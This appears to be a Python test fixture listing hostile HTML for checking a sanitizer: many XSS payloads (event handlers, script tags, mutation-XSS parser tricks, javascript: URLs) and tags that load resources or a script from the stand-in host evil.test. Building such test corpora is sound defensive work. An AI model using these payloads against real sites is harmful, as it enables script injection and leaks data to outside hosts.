"""Hostile HTML of our own: ways to run something, to send something, to fetch something, to break out of the frame."""

RUN = "alert(1)"
_handlers = """
<img src=x onerror={0}>|<svg onload={0}>|<svg/onload={0}>|<body onload={0}>|<input autofocus onfocus={0}>|<details open ontoggle={0}>x</details>
<video><source onerror={0}></video>|<audio src=x onerror={0}>|<marquee onstart={0}>x</marquee>|<iframe onload={0}></iframe>
<div onpointerrawupdate={0} style="position:fixed;inset:0">x</div>|<style onload={0}></style>|<img/src="x"/onerror="{0}">|<IMG SRC=x OnErRoR={0}>
<img src=x onerror\n=\n{0}>|<img src=x onerror=&#97;lert(1)>|<a autofocus tabindex=1 onfocus={0}>x</a>|<object data=x onerror={0}></object>
<svg><animate onbegin={0} attributeName=x dur=1s>|<svg><set onbegin={0} attributename=x>|<select autofocus onfocus={0}>|<keygen autofocus onfocus={0}>
<xss style="animation:a" onanimationstart={0}></xss><style>@keyframes a{{}}</style>|<p oncontentvisibilityautostatechange={0} style="content-visibility:auto">x</p>
<script>{0}</script>|<scr<script>ipt>{0}</scr</script>ipt>|<script src=http://evil.test/x.js></script>|<svg><script>{0}</script></svg>
<math><mtext><script>{0}</script></mtext></math>|<svg><script href=data:text/javascript,{0} />|<script type=module>{0}</script>|<script\x0c>{0}</script>
<noscript><p title="</noscript><img src=x onerror={0}>">|<template><script>{0}</script></template>|<xmp><p title="</xmp><img src=x onerror={0}>">
<textarea><p title="</textarea><img src=x onerror={0}>">|<title><p title="</title><img src=x onerror={0}>">|<style><p title="</style><img src=x onerror={0}>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={0}&gt;">|<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>
<svg></p><style><a id="</style><img src=1 onerror={0}>">|<!--><img src=x onerror={0}>-->|<![CDATA[<img src=x onerror={0}>]]>|<? <img src=x onerror={0}> ?>
<iframe src="javascript:parent.{0}"></iframe>|<iframe srcdoc="<script>parent.{0}</script>"></iframe>|<embed src="javascript:{0}">|<object data="javascript:{0}">
<a href="javascript:{0}" autofocus>x</a>|<a href="java\tscript:{0}">x</a>|<a href="&#14;javascript:{0}">x</a>|<form action="javascript:{0}"><button>x</button></form>
<meta http-equiv=refresh content="0;url=javascript:{0}">|<base href="javascript:/a/">|<isindex type=image src=1 onerror={0}>|<iframe src="data:text/html,<script>{0}</script>">
"""  # noqa: E501
_fetching = """
<img src=http://evil.test/x>|<img src=//evil.test/x>|<img srcset="http://evil.test/x 1x">|<picture><source srcset=http://evil.test/x><img></picture>
<body background=http://evil.test/x>|<table background=//evil.test/x><td>x</table>|<p style="background:url(http://evil.test/x)">x</p>
<style>@import "http://evil.test/x";</style>|<style>*{{background:url(//evil.test/x)}}</style>|<link rel=stylesheet href=http://evil.test/x>
<link rel=preload as=image href=http://evil.test/x>|<link rel=prefetch href=http://evil.test/x>|<video poster=http://evil.test/x></video>
<audio autoplay src=http://evil.test/x></audio>|<object data=http://evil.test/x></object>|<embed src=http://evil.test/x>|<iframe src=http://evil.test/x></iframe>
<svg><image href=http://evil.test/x /></svg>|<svg><use href=http://evil.test/x#a /></svg>|<meta http-equiv=refresh content="0;url=http://evil.test/x">
<input type=image src=http://evil.test/x>|<img src="http:/evil.test/x">|<img src="\\\\evil.test\\x">|<p style="list-style:url('http://evil.test/x')"><li>x
"""
OWN = [
    line
    for block in (_handlers, _fetching)
    for row in block.strip().splitlines()
    for line in row.format(RUN).split("|")
]
